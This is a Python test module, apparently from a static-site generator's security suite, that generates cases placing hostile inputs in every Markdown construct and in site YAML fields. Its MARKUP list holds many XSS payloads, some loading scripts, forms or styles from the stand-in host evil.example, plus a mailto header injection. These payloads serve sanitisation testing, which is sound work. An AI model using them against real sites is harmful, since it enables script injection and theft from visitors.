"""Hostile texts and addresses in every construct of Markdown, and wherever else addresses stand."""

from collections.abc import Iterator

from . import content
from .case import Case
from .fields import yaml_file
from .payloads import ADDRESSES, TEXTS

VISIT = "content/2016/visit.md"

# Where a text can stand in a note. Markdown makes of it what it means there, so that the pages need
# not hold it as it was written.
CONSTRUCTS = {
    "paragraph": "{}",
    "heading": "## {}",
    "heading-underlined": "{}\n---",
    "emphasis": "*{}* __{}__",
    "quote": "> {}",
    "list": "- {}\n- {}",
    "numbers": "1. {}",
    "code": "`{}`",
    "code-block": "    {}",
    "fence": "```\n{}\n```",
    "fence-name": "```{}\na\n```",
    "fence-attributes": "~~~ text {}\na\n~~~",
    "fence-of-site": "```ranking {}\n{}\n```",
    "link-words": "[{}](conference.md)",
    "link-title": '[a](conference.md "{}")',
    "link-title-parentheses": "[a](conference.md ({}))",
    "reference": "[{}]\n\n[{}]: conference.md '{}'",
    "definition": "[a]\n\n[a]: <{}> '{}'",
    "footnote": "a[^1]\n\n[^1]: {}",
    "picture-words": "![{}](hall.png)",
    "picture-title": '![a](hall.png "{}")',
    "picture-name": "![a](<{}>)",
    "table-head": "| {} | b |\n|---|---|\n| 1 | 2 |",
    "table-cell": "| a | b |\n|---|---|\n| {} | `{}` |",
    "quotation": "{{{{{}}}}}",
    "quotation-name": "{{{{points.{}}}}}",
    "html-block": "<div>{}\n\n</div>",
    "html-inline": "a <b title='{}'>{}</b>",
    "comment": "<!-- {} -->",
    "comment-inline": "a <!-- {} --> b",
    "instruction": "<?php {} ?>",
    "declaration": "<!DOCTYPE {}>",
    "data-section": "<![CDATA[{}]]>",
    "entities": "&lt;script&gt;{}&lt;/script&gt;",
    "escapes": "\\<script\\>{}\\</script\\>",
}

# Where an address can stand in a note.
LINKS = {
    "link": "[a](<{}>)",
    "link-bare": "[a]({})",
    "autolink": "<{}>",
    "reference": "[a]\n\n[a]: <{}>",
    "picture": "![a](<{}>)",
    "picture-reference": "![a][b]\n\n[b]: {}",
    "link-around-picture": "[![a](hall.png)](<{}>)",
    "table": "| a |\n|---|\n| [a](<{}>) |",
}

# Where an address can stand in the fields.
FIELDS = [
    ("content/site.yaml", ("base-url",)),
    (content.FIRST, ("sources", 0, "url")),
    (content.FIRST, ("pictures", 0, "file")),
    ("content/documents.yaml", (0, "sources", 0, "url")),
]

# Markup that HTML knows and Markdown does not.
MARKUP = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example/x><input name=q><button>a</button></form>",
    "<a href=javascript:alert(1)>a</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>a</p>",
    "<div onclick=alert(1) id=_main class=skip>a</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x\n\n<script>alert(1)</script>\n",
    "</main></body></html><script>alert(1)</script>",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "[a](<b> onclick=alert(1)>)",
    "[a](hall.png '\" onclick=alert(1) \"')",
    "![\" onerror=alert(1) x=\"](hall.png)",
    "<https://example.org/\"onclick=alert(1)>",
    "<a@example.org\"onclick=alert(1)>",
    "<mailto:a@example.org?subject=<script>alert(1)</script>>",
    "[a](https://example.org/'\"><script>alert(1)</script>)",
    "[a](mailto:a@example.org?body=%0d%0aBcc:b@example.org)",
]


def note(text: str) -> dict[str, bytes]:
    return {VISIT: content.note_text(content.FIELDS[VISIT], f"\n{text}\n").encode()}


def cases() -> Iterator[Case]:
    for construct, form in CONSTRUCTS.items():
        for name, text in TEXTS.items():
            yield Case(f"note {name} {construct}", note(form.format(text, text, text)))
    for number, markup in enumerate(MARKUP):
        yield Case(f"note markup {number}", note(markup))
        yield Case(f"note markup {number} in a line", note(f"a {markup} b"))
    for name, address in ADDRESSES.items():
        for construct, form in LINKS.items():
            yield Case(f"address {name} {construct}", note(form.format(address)))
        for path, place in FIELDS:
            value = (content.YAML | content.FIELDS)[path]
            changed = content.changed(value, place, address)
            spot = ".".join(map(str, place))
            yield Case(f"address {name} {path}:{spot}", {path: yaml_file(path, changed)})
